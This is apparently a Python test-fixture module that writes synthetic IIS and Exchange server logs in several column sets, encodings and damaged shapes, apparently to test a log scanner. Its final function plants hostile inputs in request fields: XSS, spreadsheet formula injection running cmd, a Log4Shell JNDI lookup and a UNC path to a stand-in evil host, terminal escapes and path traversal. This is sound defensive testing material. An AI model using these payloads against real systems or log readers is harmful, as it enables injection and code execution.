"""The logs of IIS and Exchange as files: column sets, headers, names by day or hour, and the shapes in which such files
arrive: CRLF, a byte order mark, UTF-16, gz, a torn last line, a tail of zeros, columns that change half-way.

What is written row by row is a `Request` (IIS front and back end, HttpProxy) or a tuple of columns (the others).
"""
import gzip
import os
import pathlib
import time
import zlib
from typing import NamedTuple

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
              "sc-status sc-substatus sc-win32-status time-taken").split()
# As an administrator sets it who wants to know more: octets, and who stands behind the load balancer.
IIS_FIELDS_MORE = [*IIS_FIELDS[:-1], "sc-bytes", "cs-bytes", "time-taken", "X-Forwarded-For"]
# Another order, and columns of elsewhere: what a reader by position gets wrong.
IIS_FIELDS_OTHER = ("date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
                    "cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus sc-win32-status "
                    "sc-bytes cs-bytes time-taken").split()

HTTPPROXY_2016 = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,"
    "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
    "ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
    "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
    "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
    "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,"
    "BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,"
    "BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,"
    "RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,"
    "TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,"
    "DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus").split(",")
HTTPPROXY_2013 = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlStem,"
    "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
    "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
    "TotalRequestTime,UrlQuery,GenericInfo,GenericErrors").split(",")
ECP_FIELDS = "TimeStamp,ServerName,EventId,EventData".split(",")
RPS_HTTP_FIELDS = (
    "StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,"
    "UrlQuery,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,ClientIpAddress,"
    "ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,"
    "FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,ActivityContextLifeTime,TotalTime,"
    "UrlRewriteTime,GenericLatency,GenericInfo,GenericErrors").split(",")
CMDLET_FIELDS = (
    "DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
    "ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,ExecutingUserSid,"
    "EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters,CmdletUniqueId,UserBudgetOnStart,"
    "ContributeToFailFast,RunspaceId,ExecutionResult,ErrorType,ExecutionContext,GenericInfo,GenericErrors").split(",")


class Request:
    """One request as all the logs see it. `marks`: log ("front", "back", "proxy") → what was planted with its row."""
    __slots__ = ("at", "ip", "method", "stem", "query", "user", "agent", "referer", "status", "cs_bytes", "sc_bytes",
                 "took", "protocol", "anchor", "hint", "cookie", "backend_status", "info", "errors", "backend_user",
                 "backend_stem", "backend_query", "marks")

    def __init__(self, at, ip, method, stem, **more):
        self.at, self.ip, self.method, self.stem = at, ip, method, stem
        self.query = self.user = self.agent = self.referer = self.anchor = self.hint = self.cookie = ""
        self.info = self.errors = self.backend_user = self.backend_stem = self.backend_query = self.protocol = ""
        self.status, self.backend_status, self.cs_bytes, self.sc_bytes, self.took = 200, 200, 700, 4000, 31
        self.marks = None
        for name, value in more.items():
            setattr(self, name, value)

    def mark(self, log, plant):
        """This request's row in `log` is `plant`."""
        self.marks = self.marks or {}
        self.marks.setdefault(log, []).append(plant)
        plant.at = plant.at or iso(self.at)
        plant.actor = plant.actor or self.ip
        return self


class Shape(NamedTuple):
    """How a log file arrives."""
    newline: str = "\r\n"
    encoding: str = "utf-8"  # "utf-8-sig" has a byte order mark, "utf-16" too.
    gz: bool = False
    torn: bool = False  # The last line is cut in the middle, as in a copy of a log that is written to.
    zeros: int = 0  # NULs behind the last line: IIS allocates ahead. On most file systems they are a hole.


def iso(at):
    """2021-03-03T04:12:14.123Z"""
    whole = int(at)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + f".{int((at - whole) * 1000):03d}Z"


class LogFile:
    """A log file that is being written; `relative` is its path beneath the swept `root`, without ".gz"."""

    def __init__(self, root, relative, shape=Shape()):
        self.relative = relative + (".gz" if shape.gz else "")
        self.path = pathlib.Path(root, self.relative)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.shape, self.lines, self.pending = shape, 0, []
        # No name and no time in the gz header: the same seed makes the same octets.
        self.raw = open(self.path, "wb")
        self.out = gzip.GzipFile("", "wb", 6, self.raw, 0) if shape.gz else self.raw
        self.begun, self.last_marks = False, ()

    def add(self, line, marks=()):
        """Appends a line and returns its number, from 1."""
        self.lines += 1
        self.pending.append(line)
        for plant in marks:
            plant.place(self.relative, self.lines)
        self.last_marks = marks
        if len(self.pending) >= 4096:
            self._flush(self.pending[:-1], True)
            self.pending = self.pending[-1:]
        return self.lines

    def _encoded(self, text):
        if self.shape.encoding == "utf-16":
            return (b"" if self.begun else b"\xff\xfe") + text.encode("utf-16-le", "surrogatepass")
        return (b"\xef\xbb\xbf" if self.shape.encoding == "utf-8-sig" and not self.begun else b"") + text.encode(
            "utf-8", "surrogateescape")

    def _flush(self, lines, ended):
        text = self.shape.newline.join(lines) + (self.shape.newline if ended else "")
        self.out.write(self._encoded(text))
        self.begun = True

    def close(self):
        """Writes the rest. Returns the number of the torn line, or 0."""
        torn = 0
        if self.shape.torn and len(self.pending) > 1 and not self.last_marks:
            torn = self.lines
            self.pending[-1] = self.pending[-1][:max(1, len(self.pending[-1]) // 3)]
        self._flush(self.pending, not torn)
        if self.out is not self.raw:
            self.out.close()
        if self.shape.zeros:
            self.raw.flush()
            os.truncate(self.path, self.raw.tell() + self.shape.zeros)
        self.raw.close()
        return torn


def w3c(text):
    """A value as IIS logs it."""
    return text.replace(" ", "+") if text else "-"


def csv_cell(text):
    """A value as Exchange's CSV logs hold it: quoted where it must be, quotes doubled."""
    if '"' in text or "," in text or "\n" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


class ServerFacts(NamedTuple):
    """What rows say of the server they come from."""
    name: str
    host: str  # What its clients call it.
    address: str
    build: tuple


def _query(request):
    """The query with what Exchange's front end appends to it when it has passed a request on."""
    if not request.protocol:
        return w3c(request.query)
    unique = zlib.crc32(f"{request.at}{request.ip}".encode())
    return request.query.replace(" ", "+") + (
        f"&CorrelationID=<empty>;&cafeReqId={unique:08x}-9f1d-4f0e-a6f3-{int(request.at * 1000):012x};&encoding=;")


_IIS_VALUES = {
    "date": lambda r, s: time.strftime("%Y-%m-%d", time.gmtime(r.at)),
    "time": lambda r, s: time.strftime("%H:%M:%S", time.gmtime(r.at)),
    "s-ip": lambda r, s: s.address,
    "s-sitename": lambda r, s: "W3SVC1",
    "s-computername": lambda r, s: s.name,
    "s-port": lambda r, s: "443",
    "cs-method": lambda r, s: r.method,
    "cs-uri-stem": lambda r, s: w3c(r.stem),
    "cs-uri-query": lambda r, s: _query(r),
    "cs-username": lambda r, s: w3c(r.user),
    "cs-version": lambda r, s: "HTTP/1.1",
    "cs-host": lambda r, s: s.host,
    "cs(User-Agent)": lambda r, s: w3c(r.agent),
    "cs(Cookie)": lambda r, s: "-",
    "cs(Referer)": lambda r, s: w3c(r.referer),
    "c-ip": lambda r, s: r.ip,
    "sc-status": lambda r, s: str(r.status),
    "sc-substatus": lambda r, s: "0",
    "sc-win32-status": lambda r, s: "0" if r.status < 400 else "5",
    "sc-bytes": lambda r, s: str(r.sc_bytes),
    "cs-bytes": lambda r, s: str(r.cs_bytes),
    "time-taken": lambda r, s: str(r.took),
    "X-Forwarded-For": lambda r, s: "-",
}


def iis_header(fields, at):
    """The lines before the rows; IIS writes them again whenever it starts anew."""
    return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            time.strftime("#Date: %Y-%m-%d %H:%M:%S", time.gmtime(at)), "#Fields: " + " ".join(fields)]


class IisSite:
    """The log of a site: a file a day, u_exYYMMDD.log. `fields_from`: (at, fields) in order; a change falls mid-file."""

    def __init__(self, root, folder, server, fields_from=((0, IIS_FIELDS),), shape_of=lambda day: Shape()):
        self.root, self.folder, self.server = root, folder, server
        self.fields_from, self.shape_of = list(fields_from), shape_of
        self.fields, self.log, self.day, self.back_end = None, None, None, "W3SVC2" in folder
        self.torn = []

    def add(self, request):
        """Rows come in the order of time."""
        day = time.strftime("%y%m%d", time.gmtime(request.at))
        if day != self.day:
            self.end()
            self.day = day
            self.log = LogFile(self.root, f"{self.folder}/u_ex{day}.log", self.shape_of(day))
            self.fields = None
        due = [fields for since, fields in self.fields_from if since <= request.at][-1]
        if due is not self.fields:
            self.fields = due
            for line in iis_header(due, request.at):
                self.log.add(line)
            self.values = [_IIS_VALUES[name] for name in due]
        marks = (request.marks or {}).get("back" if self.back_end else "front", ())
        self.log.add(" ".join([value(request, self.server) for value in self.values]), marks)

    def end(self):
        """The day is over."""
        if self.log:
            torn = self.log.close()
            self.torn += [(self.log.relative, torn)] if torn else []
        self.log = None


def to_back_end(request, server):
    """What the back end (W3SVC2, port 444) logs of a request that the front end passes on."""
    return Request(request.at + 0.01, server.address, request.method, request.backend_stem or request.stem,
                   query=request.backend_query or request.query, user=request.backend_user or request.user,
                   agent=request.agent, status=request.backend_status, cs_bytes=request.cs_bytes,
                   sc_bytes=request.sc_bytes, took=max(1, request.took - 5), marks=request.marks)


def csv_header(fields, kind, server, at):
    """The lines before the rows of one of Exchange's CSV logs."""
    major, minor, build, revision = server.build
    return [",".join(fields), "#Software: Microsoft Exchange Server",
            f"#Version: {major:02d}.{minor:02d}.{build:04d}.{revision:03d}", f"#Log-type: {kind}",
            f"#Date: {iso(at)}", "#Fields: " + ",".join(fields)]


def _httpproxy_format(fields, server):
    """The row as a format string: a place for each column that differs between rows."""
    major, minor, build, revision = (str(part) for part in server.build)
    fixed = {"MajorVersion": major, "MinorVersion": minor, "BuildVersion": build, "RevisionVersion": revision,
             "UrlHost": server.host, "ServerHostName": server.name, "ProxyAction": "Proxy",
             "TargetServerVersion": f"Version {'.'.join(str(p) for p in server.build)}", "RoutingType": "Url-UrlSession",
             "TargetOutstandingRequests": "0", "ServerLocatorLatency": "0", "ActivityContextLifeTime": "31",
             "CoreLatency": "1", "RoutingLatency": "2", "HttpProxyOverhead": "3"}
    places = {"DateTime": "{0}", "RequestId": "{1}", "Protocol": "{2}", "UrlStem": "{3}", "AuthenticatedUser": "{4}",
              "AnchorMailbox": "{5}", "UserAgent": "{6}", "ClientIpAddress": "{7}", "HttpStatus": "{8}",
              "BackEndStatus": "{9}", "Method": "{10}", "TargetServer": "{11}", "RoutingHint": "{12}",
              "BackEndCookie": "{13}", "RequestBytes": "{14}", "ResponseBytes": "{15}", "UrlQuery": "{16}",
              "GenericInfo": "{17}", "GenericErrors": "{18}", "IsAuthenticated": "{19}", "AuthenticationType": "{20}",
              "TotalRequestTime": "{21}"}
    return ",".join(places.get(name) or fixed.get(name, "") for name in fields)


class HttpProxy:
    """$EX\\Logging\\HttpProxy: a folder a protocol, a file an hour."""

    def __init__(self, root, folder, server, fields=None, shape_of=lambda hour: Shape()):
        self.root, self.folder, self.server, self.shape_of = root, folder, server, shape_of
        self.fields = fields or (HTTPPROXY_2016 if server.build[:3] >= (15, 0, 847) else HTTPPROXY_2013)
        self.format = _httpproxy_format(self.fields, server)
        self.open = {}  # protocol → (hour, LogFile)
        self.count, self.torn = 0, []

    def add(self, request):
        """Rows of one protocol come in the order of time."""
        hour = time.strftime("%Y%m%d%H", time.gmtime(request.at))
        known = self.open.get(request.protocol)
        if not known or known[0] != hour:
            self._end(request.protocol)
            name = f"{self.folder}/{request.protocol}/HttpProxy_{hour}-1.LOG"
            known = self.open[request.protocol] = (hour, LogFile(self.root, name, self.shape_of(hour)))
            for line in csv_header(self.fields, "HttpProxy Logs", self.server, request.at):
                known[1].add(line)
        known[1].add(self.row(request), (request.marks or {}).get("proxy", ()))

    def row(self, r):
        self.count += 1
        anchor, user = csv_cell(r.anchor), csv_cell(r.user)
        # Exchange stores the commas of a User-Agent as spaces.
        return self.format.format(
            iso(r.at), f"{self.count:08x}-3c5d-4b7e-9f21-{int(r.at * 1000) & 0xffffffffffff:012x}", r.protocol,
            csv_cell(r.stem), user, anchor, csv_cell(r.agent.replace(",", " ")), r.ip, r.status, r.backend_status,
            r.method, self.server.name.lower() + "." + self.server.host.partition(".")[2], csv_cell(r.hint),
            csv_cell(r.cookie), r.cs_bytes, r.sc_bytes, csv_cell(r.query), csv_cell(r.info), csv_cell(r.errors),
            "true" if r.user else "false", "FBA" if r.user else "", r.took)

    def _end(self, protocol):
        if protocol in self.open:
            log = self.open.pop(protocol)[1]
            torn = log.close()
            self.torn += [(log.relative, torn)] if torn else []

    def end(self):
        """All files are closed."""
        for protocol in list(self.open):
            self._end(protocol)


class CsvLog:
    """Another of Exchange's CSV logs: a file a day (or an hour), each with its header. `name_of`: day → file name."""

    def __init__(self, root, server, fields, kind, name_of):
        self.root, self.server, self.fields, self.kind, self.name_of = root, server, fields, kind, name_of
        self.name, self.log = None, None

    def add(self, at, values, marks=()):
        """`values`: by column; a column without one is empty. Rows come in the order of time."""
        name = self.name_of(time.gmtime(at))
        if name != self.name:
            self.end()
            self.name, self.log = name, LogFile(self.root, name)
            for line in csv_header(self.fields, self.kind, self.server, at):
                self.log.add(line)
        for plant in marks:
            plant.at = plant.at or iso(at)
        self.log.add(",".join(csv_cell(str(values.get(name, ""))) for name in self.fields), marks)

    def end(self):
        if self.log:
            self.log.close()
        self.log, self.name = None, None


def ecp_log(root, exchange, server):
    """$EX\\Logging\\ECP\\Server."""
    return CsvLog(root, server, ECP_FIELDS, "ECP Server Log",
                  lambda t: f"{exchange}/Logging/ECP/Server/" + time.strftime("ECPServer%Y%m%d-1.LOG", t))


def rps_http_log(root, exchange, server):
    """$EX\\Logging\\CmdletInfra\\Powershell-Proxy\\Http."""
    return CsvLog(root, server, RPS_HTTP_FIELDS, "Rps_Http Logs",
                  lambda t: f"{exchange}/Logging/CmdletInfra/Powershell-Proxy/Http/" + time.strftime(
                      "Rps_Http_%Y%m%d-1.LOG", t))


def cmdlet_log(root, exchange, server):
    """$EX\\Logging\\CmdletInfra\\LocalPowerShell\\Cmdlet."""
    return CsvLog(root, server, CMDLET_FIELDS, "Cmdlet Logs",
                  lambda t: f"{exchange}/Logging/CmdletInfra/LocalPowerShell/Cmdlet/" + time.strftime(
                      f"{server.name}_%Y%m%d-1_Cmdlet_1.LOG", t))


class OabLog:
    """$EX\\Logging\\OABGeneratorLog: free text, a file a day."""

    def __init__(self, root, exchange):
        self.root, self.folder, self.name, self.log = root, f"{exchange}/Logging/OABGeneratorLog", None, None

    def add(self, at, text, marks=()):
        name = time.strftime("OABGenerator%Y%m%d-1.LOG", time.gmtime(at))
        if name != self.name:
            self.end()
            self.name, self.log = name, LogFile(self.root, f"{self.folder}/{name}")
        for plant in marks:
            plant.at = plant.at or iso(at)
        self.log.add(f"{iso(at)},OABGenerator,{text}", marks)

    def end(self):
        if self.log:
            self.log.close()
        self.log, self.name = None, None


def ecp_data(command, url="/ecp/DDI/DDIService.svc/SetObject", more=""):
    """The EventData of an ECP request that ran a cmdlet; `command` as in "Set-OabVirtualDirectory.Identity='x'"."""
    return (f"S:TIME=142;S:SID=4f3c8d1a-1f9c-4a1e-bd03-6b8f0f4c2a77;'S:CMD={command}';S:REQID=;S:URL={url}{more};S:EX=;"
            "S:ACTID=1c2d3e4f-7a8b-4c9d-8e0f-112233445566;S:RS=0;S:BLD=15.1.2106.2")


def hostile_requests(at, ip):
    """Requests of somebody who wants to do harm to whoever reads the log, not to the server."""
    texts = ["\x1b]0;owned\x07\x1b[2J\x1b[31mclean\x1b[0m", "<script>alert(1)</script><img/src=x/onerror=alert(2)>",
             "=HYPERLINK(\"http://evil.example/\";\"open\")", "@SUM(1+1)*cmd|'/C calc'!A0", "+1-1|cmd", "\u202egpj.exe",
             "%c0%ae%c0%ae/%252e%252e%25252f", "\udcff\udcfe\udc80", "\x01\x02\x7f", "{{7*7}}${jndi:ldap://evil.example/a}",
             "</pre></td></table><!--", "\\\\evil.example\\share", ";/*'\"`--"]
    rows = [Request(at + i, ip, "GET", "/owa/auth/logon.aspx", query="url=" + text.replace(" ", "+"), agent=text,
                    referer=text, status=200, protocol="Owa") for i, text in enumerate(texts)]
    rows.append(Request(at + len(texts), ip, "GET", "/owa/" + "A" * 10_000_000, status=414, protocol="Owa"))
    return rows
